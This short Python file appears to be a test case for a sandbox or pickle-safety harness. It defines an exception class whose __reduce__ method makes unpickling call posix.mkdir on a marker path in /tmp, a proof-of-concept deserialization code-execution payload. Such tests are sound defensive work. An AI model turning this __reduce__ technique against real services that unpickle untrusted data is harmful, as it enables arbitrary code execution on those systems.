# Tries: Raise an exception that runs code in whoever unpickles it.
# Family: pickle
# Mode: tests
# Earns: RUNS 0

class Payload(Exception):
    def __reduce__(self):
        import posix

        return posix.mkdir, ("/tmp/attack-was-here-exception",)


def f(x):
    raise Payload("boom")
